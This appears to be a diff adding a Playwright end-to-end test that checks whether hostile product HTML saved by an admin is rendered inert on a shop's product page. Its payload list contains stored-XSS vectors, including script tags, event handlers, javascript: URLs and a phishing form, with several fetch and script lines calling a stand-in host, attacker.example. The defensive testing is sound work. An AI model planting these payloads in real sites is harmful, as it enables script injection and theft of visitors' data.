@@ -1,0 +1,108 @@
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { expect, test } from '@playwright/test';
+import { E2E_BASE_URL, E2E_DATA_DIR } from './env.mjs';
+
+// Issue 9: product body_html with scripts, event handlers and javascript: URLs, saved by an admin
+// through the admin API, renders inert on the product page: no dialog, no request to the
+// attacker's host, nothing executable in the DOM.
+
+const ATTACKER = 'attacker.example';
+const PAYLOAD = [
+  '<p>Probe paragraph marker, <strong>black seed</strong> oil.</p>',
+  `<script>alert('script')</script>`,
+  `<script src="https://${ATTACKER}/steal.js"></script>`,
+  `<img src="x" onerror="alert('onerror');fetch('https://${ATTACKER}/img')">`,
+  `<a href="javascript:alert('href')" id="js-link">Click me</a>`,
+  `<a href="JaVaScRiPt:alert('mixed')">Mixed case</a>`,
+  `<iframe src="javascript:alert('iframe')"></iframe>`,
+  `<svg><script>alert('svg')</script><animate onbegin="alert('svg-onbegin')"/></svg>`,
+  `<div style="background:url(javascript:alert('css'))" onmouseover="alert('hover')">Hover</div>`,
+  `<object data="https://${ATTACKER}/x.swf"></object>`,
+  `<form action="https://${ATTACKER}/phish"><input name="q"><button>Go</button></form>`,
+  `<details open ontoggle="alert('toggle')"><summary>More</summary></details>`,
+].join('\n');
+
+function demoAdmin() {
+  const text = readFileSync(join(E2E_DATA_DIR, 'demo-admin.txt'), 'utf8');
+  const match = /Demo admin:\s*(\S+)\s+password:\s*(\S+)/.exec(text);
+  if (!match) throw new Error(`no demo admin in ${text}`);
+  return { email: match[1], password: match[2] };
+}
+
+test('hostile body_html saved by an admin renders inert on the product page', async ({ page }) => {
+  const { email, password } = demoAdmin();
+  const headers = { origin: E2E_BASE_URL };
+  const signIn = await page.request.post('/api/auth/sign-in/email', {
+    headers,
+    data: { email, password },
+  });
+  expect(signIn.status()).toBe(200);
+
+  const handle = `xss-probe-${Date.now().toString(36)}`;
+  const created = await page.request.post('/api/admin/products', {
+    headers,
+    data: {
+      title: 'XSS probe oil',
+      handle,
+      body_html: PAYLOAD,
+      published: true,
+      variants: [{ title: '100ml', price: '9.99' }],
+    },
+  });
+  expect(created.status(), await created.text()).toBeLessThan(300);
+
+  const dialogs: string[] = [];
+  page.on('dialog', async (dialog) => {
+    dialogs.push(dialog.message());
+    await dialog.dismiss();
+  });
+  const attackerRequests: string[] = [];
+  page.on('request', (request) => {
+    if (request.url().includes(ATTACKER) || request.url().startsWith('javascript:')) {
+      attackerRequests.push(request.url());
+    }
+  });
+
+  await page.goto(`/product/${handle}`);
+  await expect(page.getByRole('heading', { level: 1 })).toContainText('XSS probe oil');
+  const marker = page.getByText('Probe paragraph marker');
+  await expect(marker).toBeAttached();
+  // Give handlers a chance: hover, click the link, toggle the details, if they survived.
+  const link = page.locator('#js-link');
+  if (await link.count()) await link.click({ trial: false }).catch(() => {});
+  await page
+    .getByText('Hover')
+    .hover()
+    .catch(() => {});
+  await page.waitForLoadState('networkidle');
+
+  // Everything rendered from body_html: the marker paragraph's container.
+  const dangerous = await marker.evaluate((paragraph) => {
+    const container = paragraph.parentElement ?? paragraph;
+    const found: string[] = [];
+    for (const el of [container, ...container.querySelectorAll('*')]) {
+      for (const attr of el.getAttributeNames()) {
+        const value = el.getAttribute(attr) ?? '';
+        if (/^on/i.test(attr)) found.push(`${el.tagName} ${attr}`);
+        if (/^\s*javascript:/i.test(value) || (/javascript:/i.test(value) && attr === 'style')) {
+          found.push(`${el.tagName} ${attr}=${value}`);
+        }
+      }
+      if (['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'FORM'].includes(el.tagName)) {
+        found.push(el.tagName);
+      }
+    }
+    return found;
+  });
+  expect(dangerous).toEqual([]);
+  expect(dialogs).toEqual([]);
+  expect(attackerRequests).toEqual([]);
+  await expect(page).toHaveURL(new RegExp(`/product/${handle}$`));
+
+  // Clean up so other journeys see the catalogue unchanged.
+  const list = await page.request.get('/api/admin/products', { headers });
+  const body = (await list.json()) as { products: { id: string; handle: string }[] };
+  const id = body.products.find((p) => p.handle === handle)?.id;
+  if (id) await page.request.delete(`/api/admin/products/${id}`, { headers });
+});
